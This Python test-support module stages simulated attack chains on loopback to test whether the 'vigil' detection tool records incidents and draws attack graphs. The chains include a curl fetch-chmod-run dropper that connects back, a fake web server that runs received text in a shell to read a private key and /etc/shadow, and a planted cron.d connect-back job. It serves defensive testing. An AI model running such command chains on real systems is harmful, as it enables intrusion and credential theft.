"""storechains — the evidence store's attack chains, run for real under one agent with
`--rules rules --store DB`, and what their tests share: finding the one incident a chain
became, its graph, and the checks that the drawn attack path (DOT, SVG, HTML) holds every
step. test_store.py asserts on the incidents and graphs; test_ui.py opens the same
incidents in a browser.

Each chain runs in its own session (as a login, a service or a cron job would) and puts a
marker in its paths and command lines, which tells its incident apart.
"""
import json
import os
import re
import shutil
import socket
import subprocess
import tempfile
import threading
import time
import xml.etree.ElementTree as ET

from vigiltest import Agent, RULES, VIGIL, check, copy_as, marker

PY = "/usr/bin/python3"
SVG_NS = "{http://www.w3.org/2000/svg}"


class Chains:
    """The agent, its store and the fake daemons the chains need. The daemons are python
    copies named like the servers of the chains, made before the agent starts (the test
    process itself must raise no alert: its children would join its incident), deployed
    under /opt as applications are (a daemon's name run from elsewhere is masquerading,
    which the default rules report)."""

    def __init__(self):
        self.work = os.path.realpath(tempfile.mkdtemp(prefix=marker() + "-"))
        os.chmod(self.work, 0o755)
        self.daemons = "/opt/" + marker()
        os.makedirs(self.daemons)
        self.nginx = copy_as(self.daemons, os.path.realpath(PY), "nginx")
        self.cron = copy_as(self.daemons, os.path.realpath(PY), "cron")
        self.db = os.path.join(self.work, "store.db")
        self.agent = None

    def start(self):
        self.agent = Agent("--rules", RULES, "--store", self.db, profile="sandbox").start()
        return self

    def stop(self):
        if self.agent:
            self.agent.stop()
        shutil.rmtree(self.work, ignore_errors=True)
        shutil.rmtree(self.daemons, ignore_errors=True)

    # ---- reading the store ---------------------------------------------------------

    def incidents_with(self, mark, want_rules, timeout=20.0):
        """The incidents of the store whose alerts mention mark, once every rule of want_rules
        has alerted in them (the writer commits every few milliseconds)."""
        deadline = time.time() + timeout
        while True:
            found = [i for i in vigil("incidents", "--store", self.db, "--all", "--format", "json")
                     if any(mark in a["output"] or mark in a["last_output"] for a in i["alerts"])]
            rules = {a["rule"] for i in found for a in i["alerts"]}
            if set(want_rules) <= rules or time.time() > deadline:
                return found
            time.sleep(0.3)

    def one_incident(self, mark, want_rules):
        found = self.incidents_with(mark, want_rules)
        check(len(found) == 1, "expected one incident for %s, got %d: %s" % (
            mark, len(found), [[a["rule"] for a in i["alerts"]] for i in found]))
        inc = found[0]
        rules = {a["rule"] for a in inc["alerts"]}
        check(set(want_rules) <= rules, "incident %d lacks %s: %s" % (inc["id"], set(want_rules) - rules, rules))
        for a in inc["alerts"]:
            check(a["count"] >= 1 and a["first"] <= a["last"] and a["evidence"], a)
        return inc

    def show(self, inc, fmt="json"):
        return vigil("show", "--store", self.db, "--format", fmt, str(inc["id"]))

    # ---- the chains ------------------------------------------------------------------

    def download_chmod_run_connect(self):
        """curl fetches a payload over loopback HTTP, chmod makes it executable, it runs and
        connects out. The payload is an interpreter binary (as droppers fetch a static python
        or busybox): a #! script run directly is a gap of the default rules (its name is not
        a shell's). Returns what the chain was made of."""
        m = marker()
        d = os.path.join(self.work, m)
        os.makedirs(d)
        # the attacker's server: its own session, serving a site directory (a server of a
        # temporary directory is itself reported)
        www = os.path.join(self.daemons, m, "www")
        os.makedirs(www)
        back = listener()
        shutil.copy2(os.path.realpath(PY), os.path.join(www, "python3"))
        port = free_port()
        server = subprocess.Popen([PY, "-m", "http.server", str(port), "--bind", "127.0.0.1", "--directory", www],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        try:
            for _ in range(100):
                try:
                    socket.create_connection(("127.0.0.1", port), timeout=1).close()
                    break
                except OSError:
                    time.sleep(0.1)
            payload = os.path.join(d, "python3")
            in_session("curl -s -o %s http://127.0.0.1:%d/python3 && chmod +x %s && %s"
                       % (payload, port, payload, connect_line(back).replace(PY, payload, 1)))
        finally:
            server.kill()
            server.wait()
        return {"mark": m, "payload": payload, "port": port, "back": back}

    def web_server_shell(self, extra=""):
        """A web-server-like process accepts a connection and runs what it was sent in a
        shell: the shell reads a private key and the password file (then runs extra)."""
        m = marker()
        d = os.path.join(self.work, m)
        os.makedirs(os.path.join(d, ".ssh"))
        key = os.path.join(d, ".ssh", "id_rsa")
        with open(os.path.join(d, "staged"), "w") as f:  # not a key's name: no alert on the test itself
            f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
        os.rename(os.path.join(d, "staged"), key)
        srv = subprocess.Popen([self.nginx, "-c", SERVER], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL,
                               text=True, start_new_session=True)
        port = int(srv.stdout.readline())
        with socket.create_connection(("127.0.0.1", port)) as c:
            c.sendall(("cat %s > /dev/null; head -c 1 /etc/shadow > /dev/null%s" % (key, extra)).encode())
            srv.wait(timeout=30)
        return {"mark": m, "key": key}

    def cron_job(self):
        """A cron file and the script it names written in one session, then run by a
        cron-like daemon in another: joined through the file."""
        m = marker()
        d = os.path.join(self.work, m)
        os.makedirs(d)
        job = os.path.join(d, "job.sh")
        crontab = "/etc/cron.d/" + m
        back = listener()
        try:
            in_session("printf '#!/bin/sh\\n%s\\n' > %s && chmod +x %s && printf '* * * * * root %s\\n' > %s"
                       % (connect_line(back).replace("'", "'\\''"), job, job, job, crontab))
            subprocess.run([self.cron, "-c", CRON, crontab], start_new_session=True, stdout=subprocess.DEVNULL,
                           stderr=subprocess.DEVNULL, timeout=60)
        finally:
            if os.path.exists(crontab):
                os.unlink(crontab)
        return {"mark": m, "job": job, "crontab": crontab}


SERVER = """
import socket, subprocess, sys
s = socket.socket()
s.bind(("127.0.0.1", 0))
s.listen(1)
print(s.getsockname()[1], flush=True)
c, _ = s.accept()
cmd = c.recv(4096).decode()
subprocess.run(["/bin/sh", "-c", cmd])
c.close()
"""

CRON = """
import os, subprocess, sys
for line in open(sys.argv[1]):
    if line.strip() and not line.startswith("#"):
        cmd = line.split(None, 6)[6].strip()
        if os.fork() == 0:          # as cron runs a job: its own session, sh -c CMD
            os.setsid()
            os.execv("/bin/sh", ["/bin/sh", "-c", cmd])
        os.wait()
"""


def vigil(*args):
    """Runs a vigil analyst command; returns its stdout (JSON parsed when --format json)."""
    out = subprocess.run([VIGIL] + list(args), capture_output=True, text=True, timeout=60)
    check(out.returncode == 0, "vigil %s failed (%d): %s" % (" ".join(args), out.returncode, out.stderr))
    return json.loads(out.stdout) if "json" in args else out.stdout


def node(graph, kind, pred, what):
    found = [n for n in graph["nodes"] if n["kind"] == kind and pred(n)]
    check(found, "no %s node for %s in %s" % (kind, what, [n["label"] for n in graph["nodes"]]))
    return found[0]


def edge(graph, kind, src, dst):
    found = [e for e in graph["edges"] if e["kind"] == kind and e["from"] == src["id"] and e["to"] == dst["id"]]
    check(found, "no %s edge %s -> %s" % (kind, src["label"], dst["label"]))
    return found[0]


def edge_id(e):
    """The id the drawing gives an edge (render.h)."""
    return "%s_%s_%s" % (e["from"], e["kind"], e["to"])


def listener():
    """A loopback TCP server the payloads connect to; returns its port."""
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(64)

    def serve():
        while True:
            try:
                c, _ = s.accept()
                c.close()
            except OSError:
                return
    threading.Thread(target=serve, daemon=True).start()
    return s.getsockname()[1]


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def connect_line(port):
    return "%s -c 'import socket; s = socket.socket(); s.connect((\"127.0.0.1\", %d))'" % (PY, port)


def in_session(script, **kw):
    """Runs sh -c script in a new session (a login, a service, a job); returns its pid."""
    p = subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, **kw)
    p.wait(timeout=60)
    return p.pid


# ---- the drawn attack path -------------------------------------------------------------

def visible(s):
    """A string of vigil's JSON as its text format writes it (what labels show): control
    characters as \\n, \\t, \\xNN; a backslash is already doubled in the JSON (json.h)."""
    out = []
    for c in s:
        if c in "\n\t\r":
            out.append({"\n": "\\n", "\t": "\\t", "\r": "\\r"}[c])
        elif ord(c) < 0x20 or ord(c) == 0x7F:
            out.append("\\x%02x" % ord(c))
        else:
            out.append(c)
    return "".join(out)


def squeeze(s):
    return re.sub(r"\s+", "", s)


def svg_shapes(svg_text):
    """{id: (class, text)} of the nodes and edges of an SVG document graphviz wrote."""
    root = ET.fromstring(svg_text)
    out = {}
    for g in root.iter(SVG_NS + "g"):
        cls = g.get("class", "")
        if cls.startswith("node") or cls.startswith("edge"):
            out[g.get("id")] = (cls, "".join(t.text or "" for t in g.iter(SVG_NS + "text")))
    return out


def check_drawn_svg(svg_text, nodes, steps, what):
    """Every node of nodes is drawn with its label, every edge of steps with its kind."""
    shapes = svg_shapes(svg_text)
    for n in nodes:
        check(n["id"] in shapes and shapes[n["id"]][0].startswith("node " + n["kind"]),
              "%s: node %s (%s) is not drawn" % (what, n["id"], n["label"]))
        # the label's start, as wrapped across lines (spaces may end a line)
        want = squeeze(visible(n["label"]))[:40]
        check(want in squeeze(shapes[n["id"]][1]),
              "%s: node %s reads %r, not %r" % (what, n["id"], shapes[n["id"]][1], want))
    for e in steps:
        i = edge_id(e)
        check(i in shapes and shapes[i][0].startswith("edge " + e["kind"]) and e["kind"] in shapes[i][1],
              "%s: the step %s is not drawn" % (what, i))


def check_drawn(chains, inc, nodes, steps):
    """The incident's attack path as DOT, SVG and HTML holds every node and step."""
    dot = chains.show(inc, "dot")
    for n in nodes:
        check('"%s" [id="%s"' % (n["id"], n["id"]) in dot, "DOT lacks node %s" % n["id"])
    for e in steps:
        check('"%s" -> "%s" [id="%s"' % (e["from"], e["to"], edge_id(e)) in dot, "DOT lacks step %s" % edge_id(e))
    check_drawn_svg(chains.show(inc, "svg"), nodes, steps, "SVG")
    page = chains.show(inc, "html")
    check_drawn_svg(page[page.index("<svg"):page.index("</svg>") + 6], nodes, steps, "HTML")
    for e in steps:
        check('data-edge="%s"' % edge_id(e) in page, "the HTML timeline lacks the step %s" % edge_id(e))
    data = json.loads(page.split('<script type="application/json" id="vg-data">', 1)[1].split("</script>", 1)[0])
    check({n["id"] for n in nodes} <= {n["id"] for n in data["graph"]["nodes"]}, "the page's data lacks nodes")
    check(not re.search(r'(src|href)="(https?:)?//', page), "the HTML page loads something from elsewhere")
    return page
